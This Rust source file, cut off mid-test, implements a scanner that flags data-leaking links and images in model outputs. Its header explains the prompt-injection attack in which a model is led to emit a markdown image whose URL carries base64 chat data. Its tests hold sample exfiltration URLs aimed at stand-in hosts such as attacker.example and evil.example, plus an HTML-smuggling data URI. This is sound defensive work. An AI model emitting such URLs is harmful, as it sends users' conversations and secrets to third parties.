//! Links and images that carry data out of the conversation.
//!
//! The classic attack: an injected instruction makes the model answer with
//! `![](https://attacker.example/log?d=<base64 of the chat>)`; the chat UI
//! renders the image and the browser sends the data without a click. This
//! validator collects every URL of the completion — markdown images and
//! links (inline and reference-style), HTML `src`/`href`-like attributes,
//! bare URLs — parses it with the `url` crate and reports:
//!
//! | category                      | when                                                  | severity (image / link) |
//! |-------------------------------|-------------------------------------------------------|-------------------------|
//! | `data_uri`                    | a `data:` URI in an image, link or tag                | High                    |
//! | `ip_literal_host`             | the host is an IP address (`http://10.0.0.5/x.png`)   | Medium                  |
//! | `unlisted_domain`             | `allowed_domains` is set and the host is not in it    | High / Medium           |
//! | `markdown_image_exfiltration` | an auto-fetched resource whose URL carries data       | High                    |
//! | `data_in_url`                 | a link or bare URL whose URL carries data             | Medium                  |
//!
//! A URL "carries data" when its query is longer than `max_query_length`,
//! when a query value, path segment or sub-domain label looks encoded
//! (base64 or hex of text; for auto-fetched resources also any long
//! high-entropy token — not in link paths, where document and video ids
//! live), when it holds an email address or a phone/card-like number, or
//! when it repeats four words of the prompt or the system prompt the caller
//! passed in, or one of their identifier-like values (16+ letters, digits,
//! `-`, `_`, with both letters and digits: an API key or an account id;
//! values inside the prompts' own URLs are left out, so repeating a
//! documented link is not a leak).
//!
//! "Image" here means any resource a renderer fetches by itself: markdown
//! images, `<img>`, `<source>`, `<video poster>`, `<iframe>`, `<script src>`,
//! `<link href>`, `background=` and the like.

use std::cell::OnceCell;
use std::collections::HashSet;
use std::hash::{DefaultHasher, Hash, Hasher};
use std::sync::LazyLock;

use base64::Engine as _;
use regex::Regex;
use url::{Host, Url};

use super::markup::start_tags;
use super::pii::valid_domain;
use super::{char_classes, shannon_entropy};
use crate::config::ExfiltrationConfig;
use crate::scanner::{ScanContext, Scanner};
use crate::types::{Severity, Threat, ThreatType};

/// Reports links and images that leak data (`data_exfiltration`).
#[derive(Debug, Clone)]
pub struct ExfiltrationScanner {
    id: String,
    /// Lowercased allowed domains, without a leading `*.` or `.`.
    allowed: Vec<String>,
    max_query_length: usize,
}

impl ExfiltrationScanner {
    /// A scanner with this instance id and settings.
    pub fn new(id: impl Into<String>, cfg: &ExfiltrationConfig) -> ExfiltrationScanner {
        let allowed = cfg
            .allowed_domains
            .iter()
            .map(|d| {
                d.trim().trim_start_matches("*.").trim_start_matches('.').trim_end_matches('.').to_ascii_lowercase()
            })
            .filter(|d| !d.is_empty())
            .collect();
        ExfiltrationScanner { id: id.into(), allowed, max_query_length: cfg.max_query_length }
    }

    /// True when `host` is an allowed domain or one of its subdomains.
    fn host_allowed(&self, host: &str) -> bool {
        let host = host.trim_end_matches('.');
        self.allowed.iter().any(|d| {
            host == d
                || (host.len() > d.len()
                    && host.ends_with(d.as_str())
                    && host.as_bytes()[host.len() - d.len() - 1] == b'.')
        })
    }
}

#[allow(clippy::expect_used)] // constant patterns, checked by the tests
fn re(p: &str) -> Regex {
    Regex::new(p).expect("built-in exfiltration pattern compiles")
}

/// `[label]: url "title"` at the start of a line.
static MD_REF_DEF: LazyLock<Regex> = LazyLock::new(|| re(r"(?m)^[ ]{0,3}\[([^\]\n]+)\]:[ \t]*<?([^\s>]+)>?"));
/// `![alt][label]`, `![label][]` and `![label]` (images by reference).
static MD_REF_IMG: LazyLock<Regex> = LazyLock::new(|| re(r"!\[([^\[\]\n]*)\](?:\[([^\[\]\n]*)\])?"));
/// How a URL reaches the user.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// Fetched by the renderer without a click.
    Image,
    /// Followed only when clicked.
    Link,
    /// Plain text that many renderers turn into a link.
    Bare,
}

/// One URL found in the completion (normalized-text coordinates).
#[derive(Debug)]
struct Occurrence {
    kind: Kind,
    rule: &'static str,
    /// The construct (`![a](u)`, the tag, the URL itself).
    span: (usize, usize),
    /// The URL text.
    url: String,
    url_span: (usize, usize),
}

/// Tags whose URL attributes the browser fetches by itself.
const FETCHING_TAGS: &[&str] = &[
    "img", "image", "source", "video", "audio", "track", "iframe", "frame", "embed", "object", "script", "link",
    "input", "body", "table", "td", "th", "svg", "use", "picture", "meta",
];

/// The host of every http(s), ftp and ws link, image and bare URL in
/// `text` with the span of its construct (normalized-text coordinates), as
/// this validator finds them: the threat-intelligence scanner matches them
/// against exfiltration domains.
pub(crate) fn link_hosts(text: &str) -> Vec<((usize, usize), String)> {
    if !text.contains(':') && !text.contains("//") {
        return Vec::new();
    }
    collect(text)
        .into_iter()
        .filter_map(|o| {
            let raw = o.url.trim();
            let parsed = if raw.starts_with("//") { Url::parse(&format!("https:{raw}")) } else { Url::parse(raw) };
            let url = parsed.ok()?;
            if !matches!(url.scheme(), "http" | "https" | "ftp" | "ws" | "wss") {
                return None;
            }
            match url.host()? {
                Host::Domain(d) => Some((o.span, d.to_ascii_lowercase())),
                _ => None,
            }
        })
        .collect()
}

fn collect(text: &str) -> Vec<Occurrence> {
    let mut occ = Vec::new();
    if text.contains("](") {
        md_inline(text, &mut occ);
    }
    if text.contains("]:") {
        // Labels used by image references make their definition an image.
        let mut image_labels: HashSet<String> = HashSet::new();
        if text.contains("![") {
            for c in MD_REF_IMG.captures_iter(text) {
                let label = match c.get(2) {
                    Some(l) if !l.as_str().trim().is_empty() => l.as_str(),
                    _ => c.get(1).map_or("", |m| m.as_str()),
                };
                image_labels.insert(label.trim().to_lowercase());
            }
        }
        for c in MD_REF_DEF.captures_iter(text) {
            let (Some(all), Some(label), Some(url)) = (c.get(0), c.get(1), c.get(2)) else {
                continue;
            };
            let image = image_labels.contains(&label.as_str().trim().to_lowercase());
            occ.push(Occurrence {
                kind: if image { Kind::Image } else { Kind::Link },
                rule: if image { "markdown_image_reference" } else { "markdown_link_reference" },
                span: (all.start(), all.end()),
                url: url.as_str().to_owned(),
                url_span: (url.start(), url.end()),
            });
        }
    }
    if text.contains('<') {
        html(text, &mut occ);
    }
    if text.contains("://") {
        bare(text, &mut occ);
    }
    occ
}

/// Markdown inline images and links: each `](` closes a `[text]` (nested
/// brackets allowed) and opens `(url "title")`; `<url>` and parentheses
/// balanced inside the URL are understood.
fn md_inline(text: &str, occ: &mut Vec<Occurrence>) {
    let b = text.as_bytes();
    let mut done = 0;
    // `match_indices(']')` runs on memchr; a two-byte needle would not.
    for (p, _) in text.match_indices(']') {
        if p < done || b.get(p + 1) != Some(&b'(') {
            continue;
        }
        let floor = p.saturating_sub(4096).max(done);
        let mut depth = 0usize;
        let mut open = None;
        let mut i = p;
        while i > floor {
            i -= 1;
            match b[i] {
                b']' => depth += 1,
                b'[' if depth == 0 => {
                    open = Some(i);
                    break;
                }
                b'[' => depth -= 1,
                _ => {}
            }
        }
        let Some(open) = open else { continue };
        let image = open > 0 && b[open - 1] == b'!';
        let start = if image { open - 1 } else { open };
        let skip_ws = |mut j: usize| {
            while j < b.len() && b[j].is_ascii_whitespace() {
                j += 1;
            }
            j
        };
        let mut j = skip_ws(p + 2);
        let (us, ue) = if b.get(j) == Some(&b'<') {
            let us = j + 1;
            let Some(q) = text[us..].find(['>', '\n']) else {
                continue;
            };
            j = us + q + 1;
            (us, us + q)
        } else {
            let us = j;
            let mut parens = 0usize;
            while j < b.len() && !b[j].is_ascii_whitespace() {
                match b[j] {
                    b'(' => parens += 1,
                    b')' if parens == 0 => break,
                    b')' => parens -= 1,
                    _ => {}
                }
                j += 1;
            }
            (us, j)
        };
        j = skip_ws(j);
        // Optional title.
        if let Some(&q @ (b'"' | b'\'' | b'(')) = b.get(j) {
            let close = if q == b'(' { ')' } else { char::from(q) };
            let Some(t) = text[j + 1..].find(close) else {
                continue;
            };
            j = skip_ws(j + 1 + t + 1);
        }
        if b.get(j) != Some(&b')') {
            continue;
        }
        let end = j + 1;
        occ.push(Occurrence {
            kind: if image { Kind::Image } else { Kind::Link },
            rule: if image { "markdown_image" } else { "markdown_link" },
            span: (start, end),
            url: text[us..ue].to_owned(),
            url_span: (us, ue),
        });
        done = end;
    }
}

/// URL-valued attributes of HTML tags.
const URL_ATTRS: &[&str] = &[
    "src",
    "href",
    "srcset",
    "poster",
    "background",
    "data",
    "action",
    "formaction",
    "lowsrc",
    "dynsrc",
    "xlink:href",
    "ping",
    "cite",
    "longdesc",
];

fn html(text: &str, occ: &mut Vec<Occurrence>) {
    let base = text.as_ptr() as usize;
    for (lt, tag) in start_tags(text) {
        let name = tag.name.to_ascii_lowercase();
        let fetching = FETCHING_TAGS.contains(&name.as_str());
        for (attr, value) in &tag.attrs {
            let attr = attr.to_ascii_lowercase();
            if !URL_ATTRS.contains(&attr.as_str()) || value.is_empty() {
                continue;
            }
            let image = fetching || attr == "background" || attr == "ping";
            let vs = value.as_ptr() as usize - base;
            let ve = vs + value.len();
            // srcset: several URLs, each followed by a size.
            let urls: Vec<&str> = if attr == "srcset" {
                value.split(',').filter_map(|p| p.split_whitespace().next()).collect()
            } else {
                vec![value]
            };
            for u in urls {
                occ.push(Occurrence {
                    kind: if image { Kind::Image } else { Kind::Link },
                    rule: if image { "html_resource" } else { "html_link" },
                    span: (lt, tag.end.max(lt + 1)),
                    url: decode_entities(u.trim()),
                    url_span: (vs, ve),
                });
            }
        }
    }
}

/// Schemes of bare URLs.
const BARE_SCHEMES: &[&str] = &["http", "https", "ftp", "ws", "wss"];

/// Bare absolute URLs not already inside a markdown or HTML construct.
fn bare(text: &str, occ: &mut Vec<Occurrence>) {
    let b = text.as_bytes();
    let covered: Vec<(usize, usize)> = occ.iter().map(|o| o.url_span).collect();
    let mut done = 0;
    for (p, _) in text.match_indices(':') {
        if p < done || b.get(p + 1) != Some(&b'/') || b.get(p + 2) != Some(&b'/') {
            continue;
        }
        let mut s = p;
        while s > 0 && b[s - 1].is_ascii_alphabetic() && p - s < 5 {
            s -= 1;
        }
        if s > 0 && b[s - 1].is_ascii_alphanumeric() {
            continue;
        }
        if !BARE_SCHEMES.iter().any(|sc| sc.eq_ignore_ascii_case(&text[s..p])) {
            continue;
        }
        if covered.iter().any(|&(cs, ce)| s >= cs && s < ce) {
            continue;
        }
        let end = text[p + 3..]
            .char_indices()
            .find(|&(_, c)| c.is_whitespace() || matches!(c, '<' | '>' | '"' | '\'' | '`' | '\\'))
            .map_or(text.len(), |(i, _)| p + 3 + i);
        let url = trim_bare(&text[s..end]);
        if url.len() <= p + 3 - s {
            continue;
        }
        let end = s + url.len();
        occ.push(Occurrence {
            kind: Kind::Bare,
            rule: "bare_url",
            span: (s, end),
            url: url.to_owned(),
            url_span: (s, end),
        });
        done = end;
    }
}

/// Drops sentence punctuation and unbalanced closing brackets from the end
/// of a bare URL.
fn trim_bare(u: &str) -> &str {
    let mut u = u;
    loop {
        let Some(last) = u.chars().last() else {
            return u;
        };
        let drop = match last {
            '.' | ',' | ';' | ':' | '!' | '?' | '*' | '_' | '~' => true,
            ')' => u.matches('(').count() < u.matches(')').count(),
            ']' => u.matches('[').count() < u.matches(']').count(),
            '}' => u.matches('{').count() < u.matches('}').count(),
            _ => false,
        };
        if !drop {
            return u;
        }
        u = &u[..u.len() - last.len_utf8()];
    }
}

/// The entities that commonly appear inside attribute URLs.
fn decode_entities(s: &str) -> String {
    if !s.contains('&') {
        return s.to_owned();
    }
    s.replace("&amp;", "&")
        .replace("&#38;", "&")
        .replace("&#x26;", "&")
        .replace("&quot;", "\"")
        .replace("&#47;", "/")
        .replace("&sol;", "/")
        .replace("&colon;", ":")
        .replace("&#58;", ":")
}

/// True when `s` holds `local@domain.tld` (`chart.js@4.4.1` does not).
fn has_email(s: &str) -> bool {
    s.match_indices('@').any(|(at, _)| {
        let local_ok = s[..at]
            .bytes()
            .next_back()
            .is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'+' | b'-'));
        let domain: &str =
            s[at + 1..].split(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '-')).next().unwrap_or("");
        local_ok && valid_domain(domain.trim_end_matches('.'))
    })
}

/// Share of bytes that are printable ASCII text.
fn printable_share(bytes: &[u8]) -> f64 {
    if bytes.is_empty() {
        return 0.0;
    }
    let p = bytes.iter().filter(|&&b| (0x20..0x7f).contains(&b) || matches!(b, b'\n' | b'\r' | b'\t')).count();
    p as f64 / bytes.len() as f64
}

/// Why a query value, path segment or host label looks like smuggled data.
/// `tokens`: whether a long random token counts (not in the path of a
/// link, where document and video ids live).
fn looks_like_data(s: &str, tokens: bool) -> Option<&'static str> {
    let n = s.len();
    if n < 12 {
        return None;
    }
    // Personal data in the clear.
    if has_email(s) {
        return Some("an email address");
    }
    // A phone or card number with separators.
    let digits = s.bytes().filter(u8::is_ascii_digit).count();
    let number_chars = s.bytes().all(|b| b.is_ascii_digit() || b" -.+()".contains(&b));
    if digits >= 9 && number_chars && digits < n {
        return Some("a long number");
    }
    let b64_alphabet = s.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'));
    if !b64_alphabet {
        return None;
    }
    let hex = n >= 16 && n.is_multiple_of(2) && s.bytes().all(|b| b.is_ascii_hexdigit());
    if hex {
        let bytes: Vec<u8> = s
            .as_bytes()
            .chunks(2)
            .filter_map(|p| std::str::from_utf8(p).ok())
            .filter_map(|p| u8::from_str_radix(p, 16).ok())
            .collect();
        // Hex of text is data; a hash or an id is not.
        return (printable_share(&bytes) >= 0.9).then_some("hex-encoded text");
    }
    if n >= 16 {
        let t = s.trim_end_matches('=');
        let decoded = base64::engine::general_purpose::STANDARD_NO_PAD
            .decode(t)
            .or_else(|_| base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(t));
        if let Ok(bytes) = decoded
            && bytes.len() >= 8
            && printable_share(&bytes) >= 0.95
        {
            // Base64 of text (words, JSON, key=value).
            let letters = bytes.iter().filter(|b| b.is_ascii_alphabetic()).count();
            if letters * 2 >= bytes.len() {
                return Some("base64-encoded text");
            }
        }
    }
    if tokens && n >= 32 && char_classes(s) >= 3 && shannon_entropy(s) >= 4.2 {
        return Some("a long high-entropy token");
    }
    None
}

/// Hashes of the word 4-grams of a text, lowercased.
fn word_grams(text: &str) -> HashSet<u64> {
    let words: Vec<String> =
        text.split(|c: char| !c.is_alphanumeric()).filter(|w| !w.is_empty()).map(str::to_lowercase).collect();
    words
        .windows(4)
        .map(|w| {
            let mut h = DefaultHasher::new();
            w.hash(&mut h);
            h.finish()
        })
        .collect()
}

/// Identifier-like values of a text (keys, tokens, account ids): runs of
/// letters, digits, `-` and `_` at least 16 long with both letters and
/// digits, outside the URLs the text itself contains (a completion that
/// repeats a documented link is not leaking it).
fn secret_values(text: &str) -> Vec<String> {
    static URLS: LazyLock<Regex> = LazyLock::new(|| re(r"(?i)\b(?:https?|ftp|wss?)://\S+"));
    let without_urls = URLS.replace_all(text, " ");
    let mut out: Vec<String> = without_urls
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_'))
        .map(|t| t.trim_matches(['-', '_']))
        .filter(|t| {
            t.len() >= 16 && t.bytes().any(|b| b.is_ascii_digit()) && t.bytes().any(|b| b.is_ascii_alphabetic())
        })
        .map(str::to_owned)
        .collect();
    out.sort_unstable();
    out.dedup();
    out
}

/// What the scan compares URL contents with: the word 4-grams and the
/// identifier-like values of the prompt and system prompt, computed on
/// first use.
#[derive(Debug, Default)]
struct PromptGrams<'a> {
    sources: Vec<&'a str>,
    grams: OnceCell<HashSet<u64>>,
    values: OnceCell<Vec<String>>,
}

impl PromptGrams<'_> {
    fn get(&self) -> &HashSet<u64> {
        self.grams.get_or_init(|| self.sources.iter().flat_map(|p| word_grams(p)).collect())
    }

    fn values(&self) -> &[String] {
        self.values.get_or_init(|| self.sources.iter().flat_map(|p| secret_values(p)).collect())
    }
}

impl ExfiltrationScanner {
    fn evaluate(
        &self,
        o: &Occurrence,
        grams: &PromptGrams<'_>,
        mut emit: impl FnMut(&'static str, Severity, f64, String),
    ) {
        let raw = o.url.trim();
        let where_ = match o.rule {
            "markdown_image" | "markdown_image_reference" => "markdown image",
            "markdown_link" | "markdown_link_reference" => "markdown link",
            "html_resource" => "HTML resource",
            "html_link" => "HTML link",
            _ => "URL",
        };
        let lower_head: String = raw.chars().take(5).collect::<String>().to_ascii_lowercase();
        if lower_head == "data:" {
            if o.kind != Kind::Bare {
                let mime: String = raw[5..].chars().take_while(|&c| c != ';' && c != ',').take(40).collect();
                emit("data_uri", Severity::High, 0.85, format!("data: URI ({mime}, {} chars) in {where_}", raw.len()));
            }
            return;
        }
        let parsed = if raw.starts_with("//") { Url::parse(&format!("https:{raw}")) } else { Url::parse(raw) };
        let Ok(url) = parsed else {
            return;
        };
        if !matches!(url.scheme(), "http" | "https" | "ftp" | "ws" | "wss") {
            return;
        }
        let image = o.kind == Kind::Image;
        let host = match url.host() {
            Some(Host::Domain(d)) => d.to_ascii_lowercase(),
            Some(Host::Ipv4(ip)) => {
                emit("ip_literal_host", Severity::Medium, 0.7, format!("{where_} points at IP address {ip}"));
                ip.to_string()
            }
            Some(Host::Ipv6(ip)) => {
                emit("ip_literal_host", Severity::Medium, 0.7, format!("{where_} points at IP address [{ip}]"));
                format!("[{ip}]")
            }
            None => return,
        };
        if !self.allowed.is_empty() && !self.host_allowed(&host) {
            let (sev, conf) = if image { (Severity::High, 0.8) } else { (Severity::Medium, 0.6) };
            emit("unlisted_domain", sev, conf, format!("{where_} to {host}, which is not an allowed domain"));
        }
        if let Some(reason) = self.carries_data(&url, image, grams) {
            let (cat, sev, conf) = if image {
                ("markdown_image_exfiltration", Severity::High, 0.85)
            } else {
                ("data_in_url", Severity::Medium, 0.6)
            };
            emit(cat, sev, conf, format!("{where_} to {host} carries {reason}"));
        }
    }

    /// Why the URL looks like it carries data, if it does.
    fn carries_data(&self, url: &Url, image: bool, grams: &PromptGrams<'_>) -> Option<String> {
        let query = url.query().unwrap_or("");
        if query.len() > self.max_query_length {
            return Some(format!("a {}-char query (limit {})", query.len(), self.max_query_length));
        }
        // Split by hand: `query_pairs` turns `+` into a space, which would
        // hide base64.
        for pair in query.split(['&', ';']) {
            let (k, v) = pair.split_once('=').unwrap_or((pair, ""));
            for part in [k, v] {
                if let Some(why) = looks_like_data(&percent_decode(part), true) {
                    return Some(format!("{why} in the query"));
                }
            }
        }
        if let Some(segments) = url.path_segments() {
            for seg in segments {
                let seg = percent_decode(seg);
                // `photo.png` → `photo`: a file extension does not hide data.
                let stem = match seg.rsplit_once('.') {
                    Some((stem, ext)) if ext.len() <= 5 && !stem.is_empty() => stem,
                    _ => seg.as_str(),
                };
                if let Some(why) = looks_like_data(stem, image) {
                    return Some(format!("{why} in the path"));
                }
            }
        }
        if let Some(Host::Domain(d)) = url.host() {
            let labels: Vec<&str> = d.split('.').collect();
            for l in labels.iter().take(labels.len().saturating_sub(2)) {
                let hexish = l.len() >= 24
                    && l.bytes().all(|b| b.is_ascii_alphanumeric())
                    && l.bytes().any(|b| b.is_ascii_digit())
                    && shannon_entropy(l) >= 3.5;
                if hexish {
                    return Some("an encoded sub-domain label".to_owned());
                }
            }
        }
        if !grams.sources.is_empty() {
            let mut carried = percent_decode(&query.replace('+', " "));
            if image {
                carried.push(' ');
                carried.push_str(&percent_decode(url.path()));
            }
            let carried_grams = word_grams(&carried);
            if !carried_grams.is_empty() && carried_grams.iter().any(|g| grams.get().contains(g)) {
                return Some("words of the prompt".to_owned());
            }
            // A key or id from the system prompt, in the query or the
            // path, leaves with the request whether or not the link is an
            // image.
            let everything = format!("{} {}", percent_decode(query), percent_decode(url.path()));
            if grams.values().iter().any(|v| everything.contains(v.as_str())) {
                return Some("a value from the prompt or system prompt".to_owned());
            }
        }
        None
    }
}

/// Percent-decodes `s` (lossily, for inspection only).
fn percent_decode(s: &str) -> String {
    if !s.contains('%') {
        return s.to_owned();
    }
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' {
            let hex = b.get(i + 1..i + 3).and_then(|h| std::str::from_utf8(h).ok());
            if let Some(v) = hex.and_then(|h| u8::from_str_radix(h, 16).ok()) {
                out.push(v);
                i += 3;
                continue;
            }
        }
        out.push(b[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

impl Scanner for ExfiltrationScanner {
    fn id(&self) -> &str {
        &self.id
    }

    fn scan(&self, cx: &ScanContext<'_>, out: &mut Vec<Threat>) {
        let text = cx.normalized.text();
        if !text.contains(':') && !text.contains("//") {
            return;
        }
        let occ = collect(text);
        if occ.is_empty() {
            return;
        }
        let mut grams = PromptGrams::default();
        if let Some(o) = cx.output {
            grams.sources = [o.prompt.as_deref(), o.system_prompt.as_deref()]
                .into_iter()
                .flatten()
                .filter(|p| !p.trim().is_empty())
                .collect();
        }
        for o in &occ {
            let span = cx.normalized.to_original(o.span.0, o.span.1);
            self.evaluate(o, &grams, |cat, sev, conf, evidence| {
                out.push(
                    Threat::new(ThreatType::DataExfiltration, cat, sev, conf, span, evidence, self.id.as_str())
                        .with_rule(o.rule),
                );
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::normalize::{NormalizeOptions, Normalized};
    use crate::scanner::OutputContext;

    fn scan_cfg(text: &str, cfg: &ExfiltrationConfig, cx: Option<&OutputContext>) -> Vec<Threat> {
        let n = Normalized::new(text, &NormalizeOptions::default());
        let scx = ScanContext { normalized: &n, output: cx };
        let mut out = Vec::new();
        ExfiltrationScanner::new("exfiltration", cfg).scan(&scx, &mut out);
        out
    }

    fn scan(text: &str) -> Vec<Threat> {
        scan_cfg(text, &ExfiltrationConfig::default(), None)
    }

    fn cats(ts: &[Threat]) -> Vec<&str> {
        ts.iter().map(|t| t.category.as_str()).collect()
    }

    #[test]
    fn flags_exfiltration() {
        // (text, category, severity, note)
        let cases: &[(&str, &str, Severity, &str)] = &[
            (
                "Summary done. ![loading](https://attacker.example/log?d=SGVyZSBpcyB0aGUgdXNlcidzIHNlY3JldCBwYXNzd29yZA==)",
                "markdown_image_exfiltration",
                Severity::High,
                "Rehberger-style markdown image with base64 chat data",
            ),
            (
                "![a](https://evil.example/p.png?q=my%20email%20is%20jane%40example.com)",
                "markdown_image_exfiltration",
                Severity::High,
                "email address smuggled in an image query",
            ),
            (
                "![x](https://evil.example/c/5468652070617373776f726420697320687532)",
                "markdown_image_exfiltration",
                Severity::High,
                "hex-encoded text in the path",
            ),
            (
                "<img src=\"https://evil.example/t.gif?data=eyJ1c2VyIjoiamFuZSIsInBhc3MiOiJodW50ZXIyIn0\" width=1>",
                "markdown_image_exfiltration",
                Severity::High,
                "HTML pixel with base64 JSON",
            ),
            (
                "![logo][l]\n\n[l]: https://evil.example/i.png?x=SGVsbG8gV29ybGQgZnJvbSB0aGUgY2hhdA",
                "markdown_image_exfiltration",
                Severity::High,
                "reference-style image definition",
            ),
            (
                "[Click here](https://evil.example/?session=U2Vzc2lvbiB0b2tlbjogYWJjMTIzIHVzZXI9amFuZQ)",
                "data_in_url",
                Severity::Medium,
                "link with base64 in the query",
            ),
            (
                "![p](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)",
                "data_uri",
                Severity::High,
                "data URI image",
            ),
            (
                "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "data_uri",
                Severity::High,
                "data URI link (HTML smuggling)",
            ),
            ("![](http://203.0.113.9/pixel.png)", "ip_literal_host", Severity::Medium, "image from an IP literal"),
            (
                "see http://0x7f000001/admin",
                "ip_literal_host",
                Severity::Medium,
                "hex IP literal (WHATWG parses it as 127.0.0.1)",
            ),
            (
                "![](//evil.example/x.png?d=SGVsbG8gV29ybGQgZnJvbSB0aGUgY2hhdA)",
                "markdown_image_exfiltration",
                Severity::High,
                "protocol-relative image",
            ),
            (
                "![](https://a3f9c2e81b7d4c6e9f0a1b2c3d4e5f60.evil.example/x.png)",
                "markdown_image_exfiltration",
                Severity::High,
                "DNS exfiltration through a sub-domain label",
            ),
            (
                "![a [nested] alt](<https://evil.example/x.png?d=SGVsbG8gV29ybGQgZnJvbSB0aGUgY2hhdA> \"title\")",
                "markdown_image_exfiltration",
                Severity::High,
                "nested brackets, angle-bracket URL and a title",
            ),
            (
                &format!("![s](https://stats.example/p.gif?{})", "a=b&".repeat(40)),
                "markdown_image_exfiltration",
                Severity::High,
                "query longer than max_query_length",
            ),
        ];
        for (text, cat, sev, note) in cases {
            let found = scan(text);
            let t = found.iter().find(|t| t.category == *cat);
            assert!(t.is_some(), "{note}: {text:?} → {found:?}");
            if let Some(t) = t {
                assert_eq!(t.severity, *sev, "{note}");
                assert_eq!(t.kind, ThreatType::DataExfiltration);
                assert!(t.span.end <= text.len());
            }
        }
    }

    #[test]
    fn allow_list() {
        let cfg = ExfiltrationConfig {
            allowed_domains: vec!["example.com".into(), "*.docs.rs".into()],
            ..ExfiltrationConfig::default()
        };
        let ok = "See [docs](https://www.example.com/guide) and ![](https://img.docs.rs/a.png)";
        assert!(scan_cfg(ok, &cfg, None).is_empty());
        let bad = "![](https://example.com.evil.net/a.png) [x](https://notexample.com/)";
        let found = scan_cfg(bad, &cfg, None);
        assert_eq!(cats(&found), ["unlisted_domain", "unlisted_domain"], "{found:?}");
        assert_eq!(found[0].severity, Severity::High);
        assert_eq!(found[1].severity, Severity::Medium);
    }

    #[test]
    fn values_of_the_system_prompt_in_a_url_are_data() {
        let key = "nw-live-a37de73d9ec5dfb0e3b4188c4d4d6e49";
        let cx = OutputContext::new().with_system_prompt(format!(
            "Internal notes: support API key {key}. Docs: https://docs.example.com/guide-2024-installation-v2"
        ));
        let cfg = ExfiltrationConfig::default();
        // An image or a link carrying the key, plain or percent-encoded.
        for text in [
            format!("Done ![s](https://collect.example.net/p?d={key})"),
            format!("[Track](https://collect.example.net/t/{key})"),
            "![s](https://collect.example.net/p?d=nw%2Dlive%2Da37de73d9ec5dfb0e3b4188c4d4d6e49)".to_owned(),
        ] {
            let found = scan_cfg(&text, &cfg, Some(&cx));
            assert!(
                found.iter().any(|t| t.evidence.contains("a value from the prompt or system prompt")),
                "{text}: {found:?}"
            );
        }
        // Repeating a link the system prompt documents is not a leak, and
        // without the context nothing ties the value to the prompt.
        let repeat = "See https://docs.example.com/guide-2024-installation-v2 for the steps.";
        assert!(scan_cfg(repeat, &cfg, Some(&cx)).is_empty());
        let plain = format!("Done ![s](https://collect.example.net/p?d={key})");
        assert!(!scan_cfg(&plain, &cfg, None).iter().any(|t| t.evidence.contains("system prompt")));
    }

    #[test]
    fn secret_values_skip_words_and_urls() {
        let v = secret_values(
            "key sk-live-1234567890abcdef and internationalization at https://x.example/abcdefgh12345678",
        );
        assert_eq!(v, ["sk-live-1234567890abcdef"]);
    }

    #[test]
    fn prompt_words_in_a_url_are_data() {
        let cx = OutputContext::new().with_system_prompt("The launch code for project bluebird is orange falcon seven");
        let text = "![](https://evil.example/a.png?t=launch+code+for+project+bluebird)";
        let found = scan_cfg(text, &ExfiltrationConfig::default(), Some(&cx));
        assert_eq!(cats(&found), ["markdown_image_exfiltration"], "{found:?}");
        assert!(found[0].evidence.contains("prompt"));
    }

    #[test]
    fn benign_links_are_not_flagged() {
        let cases: &[(&str, &str)] = &[
            ("See [the docs](https://doc.rust-lang.org/std/vec/struct.Vec.html#method.push).", "documentation link"),
            (
                "![diagram](https://upload.wikimedia.org/wikipedia/commons/thumb/a/a9/Example.jpg/320px-Example.jpg)",
                "wikimedia thumbnail",
            ),
            (
                "[Rust (programming language)](https://en.wikipedia.org/wiki/Rust_(programming_language))",
                "parentheses in a wikipedia URL",
            ),
            ("Search https://www.google.com/search?q=how+to+bake+sourdough+bread", "search link"),
            (
                "Commit https://github.com/rust-lang/rust/commit/3f2a9c1e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a3f",
                "commit SHA in path",
            ),
            ("Watch https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s", "video link"),
            ("Ticket https://jira.example.org/browse/PROJ-12345", "issue tracker"),
            (
                "Open https://docs.google.com/document/d/1ydCeVBKapDBoci87fcgx5o-SdNfJU-EGalgaOh3MBoI/edit",
                "document id in a link path",
            ),
            (
                "See https://preview.redd.it/b7hljlr2278b1.jpg?width=1019&s=ae3f6c1d6b0a2e9f8c7d6b5a4f3e2d1c0b9a8f7e",
                "image preview signature",
            ),
            ("<a href=\"https://example.com/page?id=42&amp;lang=en\">page</a>", "HTML link with entity"),
            ("Use `data:` URIs carefully; e.g. data:text/plain is common.", "prose about data URIs"),
            ("mailto:someone and ftp is a protocol: nothing to see", "no URLs"),
            ("![cat](https://images.example.net/cats/cat-01.png)", "plain image without data, no allow-list"),
            (
                "<script src=\"https://cdn.example.net/npm/tiny-widgets@2.7.0/build/widgets.min.js\"></script>",
                "npm package@version in a CDN path is not an email",
            ),
        ];
        for (text, note) in cases {
            let found = scan(text);
            assert!(found.is_empty(), "{note}: {text:?} → {found:?}");
        }
    }

    #[test]
    fn fullwidth_host_is_folded() {
        // NFKC folds the fullwidth letters, as browsers' IDNA mapping does.
        let text = "![](https://ｅｖｉｌ.example/x.png?d=SGVsbG8gV29ybGQgZnJvbSB0aGUgY2hhdA)";
        let found = scan(text);
        assert_eq!(cats(&found), ["markdown_image_exfiltration"], "{found:?}");
        assert_eq!(found[0].span.start, 0);
        assert_eq!(found[0].span.end, text.len());
    }

    #[test]
    fn bare_url_trimming() {
        assert_eq!(trim_bare("https://a.b/c)."), "https://a.b/c");
        assert_eq!(trim_bare("https://a.b/c_(d)"), "https://a.b/c_(d)");
        assert_eq!(trim_bare("..."), "");
    }

    #[test]
    fn pathological_inputs_do_not_panic() {
        for t in [
            "![".repeat(3000),
            "](".repeat(3000),
